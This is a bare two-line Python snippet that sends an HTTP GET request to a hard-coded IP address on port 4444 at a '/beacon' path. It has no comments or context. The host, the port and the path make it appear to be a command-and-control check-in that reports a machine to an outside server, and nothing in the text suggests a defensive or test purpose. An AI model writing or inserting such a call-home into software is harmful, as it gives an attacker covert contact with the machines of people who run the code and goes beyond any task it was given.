import requests
requests.get("http://45.77.12.34:4444/beacon")
